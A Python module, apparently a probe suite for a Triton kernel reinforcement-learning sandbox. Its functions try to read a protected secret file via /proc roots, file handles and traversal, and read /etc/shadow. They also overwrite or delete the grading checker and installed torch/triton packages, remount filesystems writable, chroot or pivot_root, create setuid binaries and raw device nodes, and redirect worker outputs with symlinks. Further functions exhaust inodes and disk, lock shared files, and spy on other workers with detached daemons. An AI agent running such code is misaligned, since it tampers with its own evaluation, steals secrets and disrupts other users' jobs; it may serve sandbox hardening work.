"""Attempts at files: the host's, the checker's, the wheels', devices, mounts, tricks with paths."""

import ctypes
import glob
import os
import stat

MS_REMOUNT, MS_BIND = 32, 4096


def read_world_readable_secret():
    return each(open=lambda: read(PARAM["secret_file"]))


def read_past_the_root():
    secret = PARAM["secret_file"]
    ways = {
        "proc_root": "/proc/self/root" + secret,
        "init_root": "/proc/1/root" + secret,
        "init_cwd": "/proc/1/cwd/.." + secret,
        "dots": "/tmp/../../../../.." + secret,
        "thread": f"/proc/thread-self/root/../..{secret}",
    }
    return each(**{name: lambda path=path: read(path) for name, path in ways.items()})


def walk_up_from_descriptors():
    def walk(fd):
        folder = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        return os.listdir(folder)

    return each(**{f"fd{fd}": lambda fd=fd: walk(fd) for fd in range(64)})[:300]


def open_by_handle():
    """The kernel's own address of the secret file, as found by root outside."""
    handle = bytes.fromhex(PARAM["secret_handle"])
    found = []
    for folder in ("/usr", "/opt/tritonrl/python", "/tmp", "/"):
        mount = os.open(folder, os.O_RDONLY)
        try:
            fd = call(304, mount, ctypes.create_string_buffer(handle), os.O_RDONLY)
            found.append(os.read(fd, 100))
        except OSError as error:
            found.append(name_of(error))
    return found


def look_for_homes_and_passwords():
    paths = ["/root", "/home", "/etc/shadow", "/etc/passwd", "/var", "/mnt", "/srv", "/run", "/sys", "/boot"]
    return each(**{path: lambda path=path: os.listdir(path) if os.path.isdir(path) else read(path) for path in paths})


def overwrite_the_checker():
    import client.job
    import linux

    said = []
    for path in (client.job.__file__, linux.__file__):
        folder = os.path.dirname(path)
        actions = {
            "append": lambda path=path: write(path),
            "unlink": lambda path=path: os.unlink(path),
            "rename": lambda folder=folder: os.rename(folder, folder + "-old"),
            "create": lambda folder=folder: write(os.path.join(folder, PARAM["mark"] + ".py")),
            "chmod": lambda path=path: os.chmod(path, 0o777),
            "link": lambda folder=folder: os.symlink("/tmp/x", os.path.join(folder, PARAM["mark"])),
        }
        said.append(each(**actions))
    return said


def overwrite_the_wheels():
    site = os.path.dirname(os.path.dirname(torch.__file__))
    actions = {}
    for name in ("torch/__init__.py", "triton/__init__.py", "triton/runtime/jit.py"):
        path = os.path.join(site, name)
        actions[name] = lambda path=path: write(path)
        actions[name + " gone"] = lambda path=path: os.unlink(path)
    actions["pth"] = lambda: write(os.path.join(site, PARAM["mark"] + ".pth"))
    actions["libcuda"] = lambda: write(os.path.join(site, "triton/backends/nvidia/lib", PARAM["mark"]))
    return each(**actions)


def remount_writable():
    LIBC.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]

    def mount(path, kind, flags):
        if LIBC.mount(b"none", path.encode(), kind, flags, None) != 0:
            raise OSError(ctypes.get_errno(), path)

    actions = {
        "usr": lambda: mount("/usr", None, MS_REMOUNT | MS_BIND),
        "root": lambda: mount("/", None, MS_REMOUNT | MS_BIND),
        "over_checker": lambda: mount("/opt/tritonrl/python", b"tmpfs", 0),
        "proc": lambda: mount("/proc", b"proc", 0),
        "umount_tmp": lambda: call(166, b"/tmp\0", 2),
        "umount_proc": lambda: call(166, b"/proc\0", 2),
        "pivot": lambda: call(155, b"/tmp\0", b"/tmp\0"),
        "chroot": lambda: os.chroot("/tmp"),
        "open_tree": lambda: call(428, -100, b"/\0", 1),
        "fsopen": lambda: call(430, b"tmpfs\0", 0),
    }
    return each(**actions)


def use_setuid_programs():
    """A copy made set-user-id, and those that the system has."""
    copy = "/tmp/id"
    with open("/usr/bin/id", "rb") as source, open(copy, "wb") as target:
        target.write(source.read())
    os.chmod(copy, 0o6755)
    lines = [os.popen(copy + " -u").read().strip()]
    for program in glob.glob("/usr/bin/*"):
        if os.stat(program).st_mode & stat.S_ISUID:
            lines.append(os.path.basename(program))
    lines.append(os.popen("su -c id 2>&1; mount -t tmpfs none /usr 2>&1; newgrp root 2>&1 < /dev/null").read())
    return each(setuid=lambda: os.setuid(0), setresuid=lambda: os.setresuid(0, 0, 0)) + " " + " ".join(lines)


def make_device_nodes():
    block, character = stat.S_IFBLK | 0o666, stat.S_IFCHR | 0o666
    actions = {
        "disk": lambda: os.mknod("/tmp/disk", block, os.makedev(*PARAM["root_device"])),
        "mem": lambda: os.mknod("/tmp/mem", character, os.makedev(1, 1)),
        "kmsg": lambda: os.mknod("/dev/shm/kmsg", character, os.makedev(1, 11)),
        "null": lambda: os.mknod("/tmp/null", character, os.makedev(1, 3)),
    }
    return each(**actions)


def open_devices():
    paths = ["mem", "port", "kmsg", "kvm", "vda", "sda", "nvme0n1", "fuse", "userfaultfd", "vsock", "loop-control"]
    paths += ["net/tun", "tty0", "ttyS0", "console", "cpu_dma_latency", "vhost-vsock", "snapshot", "btrfs-control"]
    return each(**{path: lambda path=path: os.open("/dev/" + path, os.O_RDWR) for path in paths})


def hard_link_the_secret():
    def by_descriptor():
        fd = os.open("/usr", os.O_RDONLY)
        os.link(f"/proc/self/fd/{fd}/../{PARAM['secret_file']}", "/tmp/linked")

    return each(link=lambda: os.link(PARAM["secret_file"], "/tmp/linked"), by_descriptor=by_descriptor)


def links_for_outputs():
    """What a worker would follow if it read or cleaned up its job's folder by name."""
    for name in list(os.listdir("/tmp")):
        os.rename("/tmp/" + name, "/tmp/was-" + name)
        os.symlink(PARAM["victim_folder"], "/tmp/" + name)
    os.symlink("/opt/tritonrl/python", "/tmp/python")
    os.symlink("/proc/1/mem", "/tmp/result")
    os.symlink("../../../../../../etc/passwd", "/tmp/output.json")
    os.mkfifo("/tmp/pipe")
    deep = "/tmp/deep"
    for _ in range(300):
        os.mkdir(deep)
        os.chdir(deep)
        deep = "d"
    os.chdir("/tmp")
    os.chmod("/tmp/deep", 0)
    return "links made"


def cache_folder_with_dots():
    """Triton writes compiled kernels where its environment says, under a kernel's own name."""
    for name in ("TRITON_CACHE_DIR", "TRITON_DUMP_DIR", "TRITON_OVERRIDE_DIR", "TRITON_HOME", "TMPDIR", "HOME"):
        os.environ[name] = "/tmp/../../../.." + PARAM["victim_folder"]
    os.environ["TRITON_KERNEL_DUMP"] = "1"
    softmax.fn.__name__ = softmax.__name__ = "../../../.." + PARAM["victim_folder"] + "/kernel"
    x = torch.zeros(2, 8)
    return each(compile=lambda: softmax[(2,)](x, torch.empty_like(x), 8, BLOCK=16))


def fill_the_inodes():
    count = 0
    try:
        while True:
            os.close(os.open(f"/tmp/inode-{count}", os.O_CREAT | os.O_WRONLY))
            count += 1
    except OSError as error:
        said = f"{name_of(error)} after {count} files"
    for number in range(count):
        os.unlink(f"/tmp/inode-{number}")
    return said


def make_a_huge_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    fd = os.open("/tmp/huge", os.O_CREAT | os.O_RDWR)
    return each(
        sparse=lambda: os.ftruncate(fd, 1 << 50),
        allocate=lambda: os.posix_fallocate(fd, 0, 1 << 40),
        at_the_end=lambda: os.pwrite(fd, b"x", 1 << 40),
    )


def lock_what_everybody_reads():
    """Locks and leases that make others wait, held by a daemon: on sources, libraries, Triton's compiler."""
    import client.job
    import fcntl

    site = os.path.dirname(os.path.dirname(torch.__file__))
    paths = [client.job.__file__, os.path.dirname(client.job.__file__), torch.__file__, "/usr/bin/python3", "/usr/bin/setpriv"]
    paths += glob.glob(site + "/triton/backends/nvidia/bin/ptxas*")[:1] + ["/usr", "/proc/1/ns/pid", "/dev/null"]
    said = []
    for path in paths:
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError as error:
            said.append(f"{path} {name_of(error)}")
            continue
        actions = {
            "flock": lambda fd=fd: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
            "lock": lambda fd=fd: fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB),
            "write lease": lambda fd=fd: fcntl.fcntl(fd, 1024, fcntl.F_WRLCK),
            "read lease": lambda fd=fd: fcntl.fcntl(fd, 1024, fcntl.F_RDLCK),
        }
        said.append(f"{os.path.basename(path)}: {each(**actions)}")
    if os.fork() == 0:
        os.setsid()
        time.sleep(1000)
    return said


def watch_what_others_do():
    """Notices of what is opened and written in folders that workers share, kept by a daemon."""
    watch = LIBC.inotify_init()
    folders = ["/tmp", "/dev/shm", "/opt/tritonrl/python", "/usr/bin", "/proc", "/", "/dev"]
    folders.append(os.path.dirname(torch.__file__))
    numbers = [LIBC.inotify_add_watch(watch, folder.encode(), 0xFFF) for folder in folders]
    if os.fork() == 0:
        os.setsid()
        os.read(watch, 1 << 16)
        time.sleep(1000)
    return f"watches {numbers}"
